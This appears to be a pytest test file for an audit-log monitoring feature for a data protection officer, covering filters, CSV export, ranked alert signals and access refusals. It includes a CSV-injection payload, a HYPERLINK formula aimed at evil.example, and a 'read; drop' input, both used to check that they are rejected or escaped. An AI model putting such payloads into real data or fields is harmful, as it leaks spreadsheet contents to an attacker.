"""Log monitoring for the data protection officer (issue 35, "Also build"): the audit log across teams, with
filters and CSV, the patterns worth a look first, and no client data, in the API and the web app.

The audit lines are made by the real app over the real dev server and worker (intakes, reads, refused
reads); only the night read is written at a chosen moment, because a test cannot wait for the night.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import httpx
import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select
from temporalio.client import Client

from api.auth import sessions
from api.deps import get_codec_reader
from api.errors import ForbiddenError
from api.services.codec_access import PathwayCodecAccess
from api.services.staff import StaffMember
from core.settings import Settings
from models.pathway import Language
from models.tables import AuditLogEntry, SignInMethod, StaffRole
from ops.admin import add_staff
from tests.support.fixtures import Member, Org
from tests.support.helpers import intake_body
from web.app import create_app

REASON = "Officer test: a client's own words that must never reach the audit log"
OFFICER = "privacy.officer"


@pytest.fixture
def officer(sqlite_engine: Engine) -> Member:
    token = add_staff(
        sqlite_engine,
        staff_id=OFFICER,
        display_name="Privacy Officer",
        role=StaffRole.DPO,
        teams=[],
        language=Language.FI,
        email=None,
    )
    return Member(OFFICER, token)


async def _pathways(api: httpx.AsyncClient, org: Org, count: int) -> list[str]:
    ids = []
    for _ in range(count):
        response = await api.post("/pathways", json=intake_body(org.team, reason=REASON), headers=org.nurse.auth)
        assert response.status_code == 201, response.text
        ids.append(response.json()["pathway_id"])
    return ids


async def test_the_officer_reads_the_log_across_teams_filters_it_and_sees_patterns_first(
    api: httpx.AsyncClient, org: Org, officer: Member, sqlite_engine: Engine
) -> None:
    ids = await _pathways(api, org, 21)
    # The social worker reads 21 pathways that are not their case; the outsider tries one of another team,
    # and someone probes an id that does not exist.
    for pathway_id in ids:
        assert (await api.get(f"/pathways/{pathway_id}", headers=org.social_worker.auth)).status_code == 200
    assert (await api.get(f"/pathways/{ids[0]}", headers=org.outsider.auth)).status_code in (403, 404)
    assert (await api.get("/pathways/pathway-nothing-here", headers=org.outsider.auth)).status_code == 404
    # A purpose is typed by the reader: one shaped like a spreadsheet formula is refused, and audited as typed.
    formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    assert (
        await api.get(f"/pathways/{ids[2]}", headers=org.nurse.auth, params={"purpose": formula})
    ).status_code == 422
    # An administrator links the identity someone signs in as: worth a look whatever the count.
    linked = await api.put(f"/staff/{org.nurse.staff_id}/identity", headers=org.admin.auth, json={"subject": "sub-1"})
    assert linked.status_code == 200, linked.text
    # A read at 23:30 Finnish time (written as the audit writes it).
    night = datetime(2026, 12, 5, 23, 30, tzinfo=ZoneInfo("Europe/Helsinki"))
    with Session(sqlite_engine) as session:
        # In UTC, as the audit keeps every line (SQLite keeps the text it is given).
        line = AuditLogEntry(
            at=night.astimezone(UTC), staff_id=org.nurse.staff_id, pathway_id=ids[1], action="read_record"
        )
        session.add(line)
        session.commit()

    page = await api.get("/audit", headers=officer.auth, params={"limit": 500})
    assert page.status_code == 200, page.text
    body = page.json()
    assert body["total"] == len(body["entries"]) > 21
    teams_staff = {entry["staff_id"] for entry in body["entries"]}
    assert {org.nurse.staff_id, org.social_worker.staff_id, org.outsider.staff_id} <= teams_staff
    assert REASON not in page.text

    reads = (
        await api.get("/audit", headers=officer.auth, params={"staff_id": org.social_worker.staff_id, "action": "read"})
    ).json()
    assert reads["total"] == 21 and {entry["action"] for entry in reads["entries"]} == {"read_record"}
    refused = (await api.get("/audit", headers=officer.auth, params={"outcome": "not_found"})).json()
    assert refused["total"] >= 1 and all(entry["outcome"] == "not_found" for entry in refused["entries"])
    one_pathway = (await api.get("/audit", headers=officer.auth, params={"pathway_id": ids[1]})).json()
    assert {entry["pathway_id"] for entry in one_pathway["entries"]} == {ids[1]}
    period = {"since": (night - timedelta(minutes=1)).isoformat(), "until": (night + timedelta(minutes=1)).isoformat()}
    in_period = (await api.get("/audit", headers=officer.auth, params=period)).json()
    assert [entry["staff_id"] for entry in in_period["entries"]] == [org.nurse.staff_id]

    exported = await api.get("/audit/export.csv", headers=officer.auth, params={"action": "read"})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[0] == ["at", "staff_id", "pathway_id", "action", "purpose", "outcome"]
    # The typed formula comes out as text a spreadsheet does not run (OWASP CSV injection).
    assert [row[4] for row in rows if "HYPERLINK" in row[4]] == [f"'{formula}"]
    all_reads = (await api.get("/audit", headers=officer.auth, params={"action": "read", "limit": 500})).json()
    assert len(rows) - 1 == all_reads["total"]
    assert REASON not in exported.text

    found = await api.get(
        "/audit/signals",
        headers=officer.auth,
        params={
            "since": (night - timedelta(days=1)).isoformat(),
            "until": (datetime.now(night.tzinfo) + timedelta(minutes=5)).isoformat(),
        },
    )
    assert found.status_code == 200, found.text
    kinds = [(signal["kind"], signal["staff_id"], signal["count"]) for signal in found.json()]
    # Refused attempts first, then identity changes, then reading outside one's caseload, then the night.
    assert kinds[0] == ("refused_attempts", org.outsider.staff_id, 2)
    assert ("identity_changes", org.admin.staff_id, 1) in kinds
    assert ("outside_caseload", org.social_worker.staff_id, 21) in kinds
    # The night is Finnish time (this test's own reads may fall in it too, when the suite runs at night).
    at_night = await api.get("/audit/signals", headers=officer.auth, params=period)
    assert [(signal["kind"], signal["staff_id"], signal["count"]) for signal in at_night.json()] == [
        ("night_reads", org.nurse.staff_id, 1)
    ]
    order = ["refused_attempts", "identity_changes", "outside_caseload", "night_reads"]
    assert [kind for kind, _, _ in kinds] == sorted((kind for kind, _, _ in kinds), key=order.index)
    # An administrator's changes are found by their family too.
    changes = (await api.get("/audit", headers=officer.auth, params={"action": "link_identity"})).json()
    assert [entry["action"] for entry in changes["entries"]] == [f"link_identity:{org.nurse.staff_id}"]

    # The officer's own monitoring is on record too.
    with Session(sqlite_engine) as session:
        own = session.exec(select(AuditLogEntry).where(AuditLogEntry.staff_id == OFFICER)).all()
    assert {line.action for line in own} >= {"monitor_audit_log", "monitor_audit_log_csv", "monitor_audit_log_signals"}


async def test_the_officer_reads_no_client_data_and_no_one_else_reads_the_whole_log(
    api: httpx.AsyncClient, org: Org, officer: Member, sqlite_engine: Engine
) -> None:
    [pathway_id] = await _pathways(api, org, 1)
    for path in (f"/pathways/{pathway_id}", f"/pathways/{pathway_id}/timeline", "/me/caseload", "/pathways"):
        response = await api.get(path, headers=officer.auth)
        assert response.status_code == 403, (path, response.text)
    assert (
        "reads the audit log and no client pathways"
        in (await api.get(f"/pathways/{pathway_id}", headers=officer.auth)).json()["detail"]
    )
    # Nor through the Temporal Web UI's codec (served where keys are set; its gate is the same for every app).
    signed_in = StaffMember(OFFICER, "Privacy Officer", StaffRole.DPO, frozenset())
    with pytest.raises(ForbiddenError, match="reads no client data"):
        await get_codec_reader(signed_in)
    access = PathwayCodecAccess(lambda: sqlite_engine)
    assert await access.readable(signed_in, {pathway_id, "other-workflow"}) == set()
    for member in (org.nurse, org.coordinator, org.admin):
        response = await api.get("/audit", headers=member.auth)
        assert response.status_code == 403
        assert response.json()["detail"] == "only the data protection officer reads the audit log across teams"


async def test_bad_filters_say_what_is_wrong_and_an_officer_belongs_to_no_team(
    api: httpx.AsyncClient, org: Org, officer: Member
) -> None:
    naive = await api.get("/audit", headers=officer.auth, params={"since": "2026-12-01T00:00:00"})
    assert naive.status_code == 422 and "time zone" in naive.text
    backwards = await api.get(
        "/audit",
        headers=officer.auth,
        params={"since": "2026-12-02T00:00:00+02:00", "until": "2026-12-01T00:00:00+02:00"},
    )
    assert backwards.status_code == 422 and "until must be after since" in backwards.text
    assert (await api.get("/audit", headers=officer.auth, params={"action": "read; drop"})).status_code == 422
    assert (await api.get("/audit", headers=officer.auth, params={"outcome": "maybe"})).status_code == 422
    with_team = await api.post(
        "/staff",
        headers=org.admin.auth,
        json={
            "staff_id": "second.officer",
            "display_name": "Second officer",
            "role": "data_protection_officer",
            "teams": [org.team],
        },
    )
    assert with_team.status_code == 422 and "belongs to no team" in with_team.text


@pytest.fixture
async def web(
    client: Client, settings: Settings, sqlite_engine: Engine, worker: object
) -> AsyncIterator[httpx.AsyncClient]:
    app = create_app(settings, temporal_client=client, engine=sqlite_engine)
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://app.test", follow_redirects=False) as http:
            yield http


async def test_the_officer_page_lists_patterns_first_and_downloads_the_csv(
    web: httpx.AsyncClient, org: Org, officer: Member, sqlite_engine: Engine
) -> None:
    with Session(sqlite_engine) as session:
        secret, _ = sessions.open_session(session, staff_id=OFFICER, method=SignInMethod.DEVELOPMENT, hours=1)
        session.add(
            AuditLogEntry(
                staff_id=org.outsider.staff_id, pathway_id="pathway-x", action="read_record", outcome="denied"
            )
        )
        session.commit()
    cookie = {"Cookie": f"{sessions.COOKIE}={secret}"}
    home = await web.get("/app/", headers=cookie)
    assert home.status_code == 303 and home.headers["location"] == "/app/audit"
    page = await web.get("/app/audit", headers={**cookie, "Accept-Language": "fi"})
    assert page.status_code == 200, page.text
    text = page.text
    # Finnish is the officer's language: patterns first, then the filters and the lines.
    assert text.index("Kannattaa tarkistaa") < text.index("Rajaa lokia") < text.index("riviä, uusimmat ensin")
    assert "Estetyt yritykset" in text and org.outsider.staff_id in text
    assert 'href="/app/audit/export.csv' in text and "/app/intake" not in text
    filtered = await web.get("/app/audit", headers=cookie, params={"outcome": "denied", "from": "2026-01-01"})
    assert filtered.status_code == 200 and "pathway-x" in filtered.text
    bad = await web.get("/app/audit", headers=cookie, params={"from": "yesterday"})
    assert bad.status_code == 422
    exported = await web.get("/app/audit/export.csv", headers=cookie, params={"outcome": "denied"})
    assert exported.status_code == 200
    assert list(csv.reader(io.StringIO(exported.text)))[1][1:4] == [org.outsider.staff_id, "pathway-x", "read_record"]
    # A nurse's session does not open the page.
    with Session(sqlite_engine) as session:
        nurse_secret, _ = sessions.open_session(
            session, staff_id=org.nurse.staff_id, method=SignInMethod.DEVELOPMENT, hours=1
        )
    refused = await web.get("/app/audit", headers={"Cookie": f"{sessions.COOKIE}={nurse_secret}"})
    assert refused.status_code == 403
